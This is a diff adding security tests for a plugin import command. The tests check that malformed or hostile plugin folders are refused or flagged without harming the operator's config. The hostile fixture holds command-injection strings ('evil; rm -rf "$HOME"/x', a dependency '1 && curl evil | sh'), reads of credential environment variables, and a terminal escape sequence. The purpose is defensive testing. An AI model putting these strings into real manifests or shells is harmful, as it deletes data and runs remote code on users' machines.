@@ -1,4 +1,4 @@
-import { existsSync, readFileSync } from 'node:fs';
+import { chmodSync, existsSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import t from 'tap';
 import { pluginEntrySchema } from '../../../../src/features/plugins/records/plugin.ts';
@@ -193,4 +193,67 @@ t.test('what is no script, and where there is no configuration', async (t) => {
   const { code, said } = await runTyped(dir, ['import', 'oracle', '--relayer', 'r']);
   t.equal(code, 0);
   t.match(said, 'There is no config/config.json. The entry for its "plugins":');
+});
+
+// Threat: a folder from elsewhere gets more than its plugin: a file of the operator, a credential, a shell, a terminal.
+t.test('what stands in the folder is not trusted', async (t) => {
+  const own = { 'index.ts': 'mine' };
+  const oracle = (files: Record<string, string>) => ({ ...FUNCTION, ...files });
+  const action = { code: ACTION['index.js'], yml: SERVERLESS("        type: 'webhook'") };
+  const refused: [folder: Exclude<Parameters<typeof t.testdir>[0], string | undefined>, text: RegExp][] = [
+    [{ oracle: oracle({ 'userArgs.json': '["a"]' }) }, /userArgs\.json: expected an? object/],
+    [{ oracle: oracle({ 'schema.json': '{"userArgs":{"a":1}}' }) }, /schema\.json: userArgs\.a: expected a string/],
+    [{ oracle: oracle({ 'storage.json': '{,}' }) }, /storage\.json: is not valid JSON/],
+    [
+      {
+        'serverless.yml': action.yml.replace(/whitelist-receivers:\n.*/, 'whitelist-receivers: all'),
+        actions: { sweep: ACTION },
+      },
+      /serverless\.yml: whitelist-receivers: expected a list/,
+    ],
+    [{ 'serverless.yml': 'a: [', actions: { sweep: ACTION } }, /serverless\.yml is no YAML/],
+    [{ actions: { sweep: { ...ACTION, 'plugin.cjs': '' } } }, /plugin\.cjs is in the way/],
+  ];
+  for (const [project, text] of refused) {
+    const path = 'oracle' in project ? 'project/oracle' : 'project/actions/sweep';
+    const dir = t.testdir({ config: service(), project, plugins: { taken: own } });
+    const { code, complained } = await runTyped(dir, ['import', path, '--id', 'taken', '--overwrite']);
+    t.equal(code, 1);
+    t.match(complained, text);
+    t.equal(
+      readFileSync(join(dir, 'plugins/taken/index.ts'), 'utf8'),
+      'mine',
+      'nothing is deleted before all is known',
+    );
+    t.equal(entryIn(dir), undefined);
+  }
+
+  const code = `${FUNCTION['index.ts']}
+    import a from 'evil; rm -rf "$HOME"/x'; import b from '--global'; import c from 'feed';
+    const { API_KEY, KEYSTORE_PASSPHRASE, MINE } = process.env; fetch('https://*.com/');
+    const shown = import('\u001b]0;title\u0007');`;
+  const manifest = '{"dependencies":{"feed":"1 && curl evil | sh"}}';
+  const signers = [{ id: 's', config: { passphrase: { type: 'env', value: 'KEYSTORE_PASSPHRASE' } } }];
+  const dir = t.testdir({
+    config: {
+      'config.json': `{"relayers":[${JSON.stringify(relayer('a'))}],"signers":${JSON.stringify(signers)},"plugins":[{"id":"other","config":{"wei":123456789012345678901}}]}`,
+    },
+    oracle: oracle({ 'index.ts': code, 'package.json': manifest }),
+  });
+  const file = join(dir, 'config/config.json');
+  chmodSync(file, 0o600);
+  const { said, complained } = await runTyped(dir, ['import', 'oracle']);
+  t.match(
+    entryIn(dir, 1),
+    { permissions: { env: ['MINE', 'PRICE_API'], hosts: ['api.example.com:8443'] } },
+    complained,
+  );
+  t.match(said, /^- Install .*: npm install feed price-feed-client$/m);
+  t.ok(said.includes('It reads KEYSTORE_PASSPHRASE, a credential of the service'));
+  t.notMatch(said, '\u001b');
+  t.match(entryIn(dir), { config: { wei: '123456789012345678901' } }, 'an amount of the operator is what it was');
+  t.equal(statSync(file).mode & 0o777, 0o600);
+  const itself = await runTyped(dir, ['import', 'plugins/oracle', '--overwrite']);
+  t.match(itself.complained, /lie in each other: move the script out first/);
+  t.ok(existsSync(join(dir, 'plugins/oracle/index.ts')));
 });
